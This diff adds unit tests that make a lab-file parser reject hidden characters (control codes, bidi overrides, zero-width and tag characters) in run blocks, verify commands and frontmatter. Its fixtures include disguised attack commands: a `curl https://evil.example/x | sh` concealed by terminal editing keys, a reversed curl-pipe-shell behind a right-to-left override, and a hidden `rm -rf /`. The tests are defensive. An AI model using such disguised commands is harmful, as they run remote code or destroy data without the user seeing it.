@@ -156,6 +156,56 @@ describe('parseLab', () => {
   });
 });
 
+/** A lab whose first step runs `block` (a Run block) and checks with `verify`. */
+function labWith(block: string, verify = 'true', frontmatter = ''): string {
+  return `---\ntitle: T\n${frontmatter}---\n## s\n\n\`\`\`sh run\n${block}\n\`\`\`\n\n\`\`\`verify\n${verify}\n\`\`\`\n`;
+}
+
+describe('parseLab and hidden characters (issue #24)', () => {
+  it('refuses a Run block that shows `echo "curl ... | sh"` but edits itself with Ctrl-A/D/E/H into the curl', () => {
+    // Ctrl-A (start of line), Ctrl-D x6 (delete `echo "`), Ctrl-E (end), Ctrl-H (delete the closing quote).
+    const block = `echo "curl https://evil.example/x | sh"\u0001${'\u0004'.repeat(6)}\u0005\u0008`;
+    const found = problems(parseLab(labWith(block)));
+    expect(found[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 40 });
+    expect(found[0]?.message).toContain('U+0001 (Ctrl-A)');
+    expect(found[0]?.message).toContain('what runs would not be what is shown');
+    // One problem per character, each on its line and column.
+    expect(found.map((problem) => problem.column)).toEqual([40, 41, 42, 43, 44, 45, 46, 47, 48]);
+  });
+
+  it('refuses control characters anywhere: prose, a verify command, the frontmatter, DEL and C1 too', () => {
+    expect(problems(parseLab(labWith('ls', 'true').replace('## s', '## s\n\nsee \u001b[8mhidden')))[0]).toMatchObject({
+      code: 'hidden-character',
+      line: 6,
+      message: expect.stringContaining('U+001B (Escape)'),
+    });
+    expect(problems(parseLab(labWith('ls', 'test -f /tmp/x\u007f')))[0]).toMatchObject({ code: 'hidden-character', line: 11 });
+    expect(problems(parseLab(labWith('ls\u009b', 'true')))[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 3 });
+    // A YAML escape makes the control character without writing it: the setup command is refused on its line.
+    const setup = problems(parseLab(labWith('ls', 'true', 'setup:\n  - "echo hi\\x01"\n')));
+    expect(setup[0]).toMatchObject({ code: 'schema', line: 4, message: expect.stringContaining('setup[0]: holds the invisible character U+0001') });
+  });
+
+  it('refuses bidi overrides anywhere, and zero-width or other invisible characters in code and checks', () => {
+    const override = problems(parseLab(labWith('echo safe \u202Ehs | lruc\u202C')));
+    expect(override[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 11, message: expect.stringContaining('right-to-left override') });
+    const zeroWidth = problems(parseLab(labWith('ls', 'grep -q x /tmp/a\u200b')));
+    expect(zeroWidth).toEqual([expect.objectContaining({ code: 'hidden-character', line: 11, message: expect.stringContaining('This `verify` command holds the invisible character U+200B (zero width space)') })]);
+    // Inside a list, in a block that is only shown (readers copy those), on the block's second line.
+    const nested = '---\ntitle: T\n---\n## s\n\n1. Then:\n\n   ```sh\n   ls\n   rm -rf /tmp/lab\u2066 /\u2069\n   ```\n';
+    expect(problems(parseLab(nested))[0]).toMatchObject({ code: 'hidden-character', line: 10 });
+    const tag = problems(parseLab(labWith('echo hi\u{E0041}')));
+    expect(tag[0]).toMatchObject({ code: 'hidden-character', line: 7, message: expect.stringContaining('U+E0041') });
+    const path = problems(parseLab(labWith('ls', 'true', 'files:\n  - path: "/root/a\\u200db"\n    content: x\n')));
+    expect(path[0]).toMatchObject({ code: 'schema', line: 4, message: expect.stringContaining('files[0].path: holds the invisible character U+200D') });
+  });
+
+  it('keeps tabs, emoji and right-to-left prose', () => {
+    const prose = '---\ntitle: T\n---\nHi \u{1F469}\u200D\u{1F4BB}, \u05E9\u05DC\u05D5\u05DD\u200F.\n\n## s\n\n```sh run\nprintf "a\tb ❤️\\n"\n```\n';
+    expect(parseLab(prose).ok).toBe(true);
+  });
+});
+
 /** A small deterministic PRNG (mulberry32) so a failing fuzz case can be replayed from its seed. */
 function random(seed: number): () => number {
   let state = seed >>> 0;
